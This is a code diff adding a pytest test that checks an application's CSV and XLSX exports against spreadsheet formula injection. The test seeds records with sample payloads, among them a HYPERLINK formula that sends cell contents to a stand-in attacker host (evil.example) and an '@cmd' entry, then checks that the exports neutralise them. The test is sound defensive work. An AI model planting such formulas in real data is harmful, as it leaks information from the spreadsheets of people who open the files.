@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import io
 import os
+import zipfile
 from datetime import timedelta
 
 import pytest
@@ -275,3 +276,46 @@ def test_city_exports_run_a_bounded_number_of_queries(
     with django_assert_max_num_queries(35):
         response = client_for(personas.city_staff).get(city_export(table, "csv"))
         body(response)  # the rows are read while streaming
+
+
+# --- Formula injection (CSV injection) ---------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1+1"]
+
+
+def _cells_of(response, fmt: str) -> list[object]:
+    if fmt == "csv":
+        return [cell for row in read_csv(response) for cell in row]
+    data = body(response)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets), "a cell is stored as a formula"
+    workbook = load_workbook(io.BytesIO(data))
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    return [c.value for c in cells]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_no_export_turns_user_text_into_a_formula(personas, milestones, member_campaign_scored, client_for, fmt):
+    from assessments.models import Question
+
+    for i, unit in enumerate(Unit.objects.order_by("path")):
+        Unit.objects.filter(pk=unit.pk).update(name=FORMULAS[i % len(FORMULAS)] + f" {i}")
+    Question.objects.filter(framework=milestones.framework).update(text=FORMULAS[0])
+    client = client_for(personas.city_staff)
+    seen: list[object] = []
+    tables = ("units", "completion", "subtree", "levels", "domains", "members")
+    urls = [city_export(t, fmt) + f"?campaign={milestones.t1.pk}" for t in tables]
+    urls += [unit_export("QA-1-a", t, fmt) + f"?campaign={milestones.t1.pk}" for t in ("trend", "explain")]
+    for url in urls:
+        response = client.get(url)
+        assert response.status_code == 200, url
+        seen += _cells_of(response, fmt)
+    texts = [c for c in seen if isinstance(c, str)]
+    if fmt == "csv":
+        assert not [c for c in texts if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        assert any(c.startswith("'=HYPERLINK(") for c in texts)  # neutralised, not dropped
+    else:
+        assert any(c.startswith("=HYPERLINK(") for c in texts)  # the exact text, stored as text
+    assert any("-2+3" in c for c in texts) and any("@cmd" in c for c in texts)
